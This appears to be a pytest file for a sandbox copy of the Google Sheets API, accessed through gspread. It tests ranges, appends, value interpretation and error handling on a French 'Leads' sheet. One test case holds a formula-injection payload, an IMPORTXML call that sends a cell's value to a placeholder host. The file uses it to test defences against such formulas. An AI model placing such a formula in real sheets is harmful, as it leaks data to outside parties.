"""Google Sheets' stand-in, asked by gspread: cells, ranges, what becomes of a value."""

from concurrent.futures import ThreadPoolExecutor
from typing import Any

import gspread
import pytest
from gspread.exceptions import APIError

from sandbox import demo
from tests.sandbox.tools import FILE, Tools, tools

__all__ = ("tools",)
HEADER = list(demo.NOTION_FIELD_MAP.values())
RAW: Any = "RAW"
USER: Any = "USER_ENTERED"
COLUMNS: Any = "COLUMNS"


@pytest.fixture
def sheet(tools: Tools) -> gspread.Worksheet:
    return tools.file().get_worksheet_by_id(demo.SPREADSHEET_GID)


def appended(sheet: gspread.Worksheet, *rows: list[Any], **more: Any) -> str:
    """Append rows; the range that they went to."""
    done: Any = sheet.append_rows(list(rows), **more)
    return str(done["updates"]["updatedRange"])


def code(refused: pytest.ExceptionInfo[APIError]) -> tuple[int, str]:
    error = refused.value.response.json()["error"]
    assert error["code"] == refused.value.response.status_code
    return error["code"], error["status"]


def test_the_file_tells_its_sheets(tools: Tools) -> None:
    file = tools.file()
    [sheet] = file.worksheets()
    assert (sheet.id, sheet.title) == (demo.SPREADSHEET_GID, demo.SPREADSHEET_TAB)
    assert (sheet.row_count, sheet.col_count) == (1000, 26)
    assert sheet.row_values(1) == HEADER


def test_cells_are_written_and_read(sheet: gspread.Worksheet) -> None:
    sheet.update([["Zoé", "lead-1"], ["Léa", "lead-2"]], "A2:B3", value_input_option=RAW)
    sheet.batch_update([{"range": "C2", "values": [["Chaud"]]}], value_input_option=RAW)
    assert sheet.get("A2:C3") == [["Zoé", "lead-1", "Chaud"], ["Léa", "lead-2"]]
    assert sheet.col_values(2) == ["Flow IA ID", "lead-1", "lead-2"]
    assert sheet.batch_get(["A2", "B3:B3"]) == [[["Zoé"]], [["lead-2"]]]
    assert sheet.get("A1:B2", major_dimension=COLUMNS)[0] == ["Nom", "Zoé"]
    sheet.batch_clear(["A2:B2"])
    assert sheet.row_values(2) == ["", "", "Chaud"]


@pytest.mark.parametrize(
    ("value", "raw", "entered"),
    [
        ("=1+1", "=1+1", {"formula": "=1+1"}),
        ('=IMPORTXML("http://x/?"&A1,"//x")', None, {"formula": None}),
        ("+A1", "+A1", {"formula": "=+A1"}),
        ("-zut", "-zut", {"formula": "=-zut"}),
        ("@moi", "@moi", {"formula": "=@moi"}),
        ("+33612345678", "+33612345678", 33612345678),
        ("+33 6 12 34 56 78", "+33 6 12 34 56 78", {"formula": "=+33 6 12 34 56 78"}),
        ("0612345678", "0612345678", 612345678),
        ("12,5", "12,5", 12.5),
        ("10%", "10%", 0.1),
        ("TRUE", "TRUE", True),
        ("2026-11-22", "2026-11-22", 46348),
        ("'0612", "'0612", "0612"),
        ("Zoé", "Zoé", "Zoé"),
        (7, 7, 7),
        (True, True, True),
    ],
)
def test_raw_keeps_what_user_entered_interprets(
    tools: Tools, sheet: gspread.Worksheet, value: Any, raw: Any, entered: Any
) -> None:
    sheet.update([[value]], "A2", value_input_option=RAW)
    sheet.update([[value]], "A3", value_input_option=USER)
    unformatted: Any = "UNFORMATTED_VALUE"
    kept, read = (row[0] for row in sheet.get("A2:A3", value_render_option=unformatted))
    first, second = tools.seen("sheets")["rows"]
    assert kept == (value if raw is None else raw)
    assert "formulas" not in first
    if isinstance(entered, dict):
        assert second["formulas"] == ["Nom"]
        formula: Any = "FORMULA"
        wanted = entered["formula"] or value
        assert sheet.get("A3", value_render_option=formula) == [[wanted]]
    else:
        assert read == entered
        assert "formulas" not in second


def test_update_cell_always_interprets(tools: Tools, sheet: gspread.Worksheet) -> None:
    sheet.update_cell(2, 1, "=1+1")
    assert tools.seen("sheets")["rows"][0]["formulas"] == ["Nom"]


def test_rows_are_appended_below_the_table(sheet: gspread.Worksheet) -> None:
    assert appended(sheet, ["Zoé", "1"], ["Léa", "2"], table_range="A1:H1") == "Leads!A2:B3"
    assert appended(sheet, ["Eva", "3"], table_range="A1:H1") == "Leads!A4:B4"
    assert appended(sheet, ["Ève", "4"]) == "Leads!A5:B5"


def test_an_empty_column_moves_a_guessed_table(tools: Tools, sheet: gspread.Worksheet) -> None:
    for row in ("a", "b"):
        appended(sheet, [row] * 8, table_range="A1:H1")
    tools.do("sheets", "delete_column", column="Flow IA ID")
    tools.do("sheets", "add_column", column="", before="Niveau")
    assert appended(sheet, ["x", "y"]) == "Leads!C4:D4"
    assert appended(sheet, ["x", "y"], table_range="A1:A1") == "Leads!A4:B4"


def test_overwrite_writes_over_what_stands_below(tools: Tools, sheet: gspread.Worksheet) -> None:
    sheet.update([["total"]], "A4", value_input_option=RAW)
    rows = [["Zoé", "1"], ["Léa", "2"], ["Eva", "3"]]
    appended(sheet, *rows, table_range="A1:H1", insert_data_option="INSERT_ROWS")
    assert sheet.col_values(1) == ["Nom", "Zoé", "Léa", "Eva", "", "", "total"]
    tools.sandbox.post("/tools/reset")
    tools.options(sheets_writes=None, sheets_reads=None, sheets_project=None)
    again = tools.file().sheet1
    again.update([["total"]], "A4", value_input_option=RAW)
    appended(again, *rows, table_range="A1:H1", insert_data_option="OVERWRITE")
    assert again.col_values(1) == ["Nom", "Zoé", "Léa", "Eva"]


def test_the_last_table_of_the_range_is_taken(sheet: gspread.Worksheet) -> None:
    sheet.update([["x", "y"], ["1", "2"]], "D5:E6", value_input_option=RAW)
    assert appended(sheet, ["z"]) == "Leads!D7"
    assert appended(sheet, ["z"], table_range="A1:H1") == "Leads!A2"


def test_without_a_table_rows_go_where_the_range_begins(
    tools: Tools, sheet: gspread.Worksheet
) -> None:
    sheet.clear()
    assert appended(sheet, ["a"], table_range="B3:C3") == "Leads!B3"


def test_appending_makes_a_sheet_longer_but_writing_outside_does_not(
    sheet: gspread.Worksheet,
) -> None:
    sheet.resize(rows=2)
    appended(sheet, ["1"], ["2"], table_range="A1:H1")
    with pytest.raises(APIError) as refused:
        sheet.update([["x"]], "A9", value_input_option=RAW)
    assert code(refused) == (400, "INVALID_ARGUMENT")
    assert "exceeds grid limits. Max rows: 3" in str(refused.value)


@pytest.mark.parametrize(
    ("area", "values"),
    [("A2:B2", [["1", "2", "3"]]), ("A2:A2", [["1"], ["2"]]), ("A2", [[{"a": 1}]])],
    ids=["too wide", "too long", "no value"],
)
def test_values_that_do_not_fit_are_refused(
    sheet: gspread.Worksheet, area: str, values: Any
) -> None:
    if area == "A2:A2":
        area = "A2:B2"
    with pytest.raises(APIError) as refused:
        sheet.update(values, area, value_input_option=RAW)
    assert code(refused) == (400, "INVALID_ARGUMENT")


def test_of_several_ranges_none_is_written_when_one_is_wrong(sheet: gspread.Worksheet) -> None:
    good, bad = {"range": "A2", "values": [["x"]]}, {"range": "A9999", "values": [["x"]]}
    with pytest.raises(APIError):
        sheet.batch_update([good, bad], value_input_option=RAW)
    assert sheet.row_values(2) == []


def test_null_leaves_a_cell_alone_and_nothing_empties_it(sheet: gspread.Worksheet) -> None:
    sheet.update([["a", "b", "c"]], "A2:C2", value_input_option=RAW)
    sheet.update([[None, "", "z"]], "A2:C2", value_input_option=RAW)
    assert sheet.row_values(2) == ["a", "", "z"]


@pytest.mark.parametrize("area", ["Absente!A1", "Leads!A0", "Leads!??", "'Leads"])
def test_a_range_that_means_nothing_is_refused(tools: Tools, area: str) -> None:
    with pytest.raises(APIError) as refused:
        tools.file().values_get(area)
    assert code(refused) == (400, "INVALID_ARGUMENT")
    assert "Unable to parse range" in str(refused.value)


def test_ranges_have_many_forms(tools: Tools, sheet: gspread.Worksheet) -> None:
    file = tools.file()
    appended(sheet, ["Zoé", "1"], ["Léa", "2"], table_range="A1:H1")
    tools.do("sheets", "rename_target", to="L'été 2026")
    for area, found in (
        ("'L''été 2026'!B2:B", [["1"], ["2"]]),
        ("'L''été 2026'!2:2", [["Zoé", "1"]]),
        ("'L''été 2026'!$A$3:$B$3", [["Léa", "2"]]),
        ("A2", [["Zoé"]]),
        ("'L''été 2026'!B:A", [["Nom", "Flow IA ID"], ["Zoé", "1"], ["Léa", "2"]]),
    ):
        told = file.values_get(area)
        assert told["values"] == found, area
        assert told["range"].startswith("'L''été 2026'!")
    assert "values" not in file.values_get("'L''été 2026'!Z1")


def test_sheets_rows_and_columns_are_added_and_taken_away(tools: Tools) -> None:
    file = tools.file()
    made = file.add_worksheet("Archives", rows=10, cols=2)
    made.update([["a", "b"], ["c", "d"]], "A1:B2", value_input_option=RAW)
    made.add_cols(1)
    made.add_rows(5)
    assert (made.col_count, made.row_count) == (3, 15)
    made.insert_row(["nouvelle"], 1, value_input_option=RAW)
    made.delete_rows(2)
    made.insert_cols([["x"]], 1, value_input_option=RAW)
    assert made.get_all_values() == [["x", "nouvelle", ""], ["", "c", "d"]]
    made.update_title("Anciens")
    made.freeze(rows=1)
    assert [one.title for one in file.worksheets()] == ["Leads", "Anciens"]
    with pytest.raises(APIError):
        file.add_worksheet("Leads", rows=1, cols=1)
    file.del_worksheet(made)
    with pytest.raises(APIError):
        file.del_worksheet(file.sheet1)


def test_an_unknown_request_is_refused_and_nothing_done(tools: Tools) -> None:
    file = tools.file()
    add = {"addSheet": {"properties": {"title": "Archives"}}}
    with pytest.raises(APIError) as refused:
        file.batch_update({"requests": [add, {"danse": {}}]})
    assert code(refused) == (400, "INVALID_ARGUMENT")
    assert len(file.worksheets()) == 1


def test_the_log_names_the_file_and_the_range(tools: Tools, sheet: gspread.Worksheet) -> None:
    tools.sandbox.delete("/calls")
    appended(sheet, ["Zoé"], table_range="A1:H1")
    [call] = tools.sandbox.get("/calls", service="sheets", operation="append")["calls"]
    assert (call["recipient"], call["external_id"]) == (FILE, "Leads!A2")


def test_appends_at_once_lose_nothing(sheet: gspread.Worksheet) -> None:
    def one(number: int) -> str:
        return appended(sheet, [str(number)], table_range="A1:H1")

    with ThreadPoolExecutor(8) as pool:
        areas = list(pool.map(one, range(40)))
    assert len(set(areas)) == 40
    assert sorted(sheet.col_values(1)[1:], key=str) == sorted(map(str, range(40)))
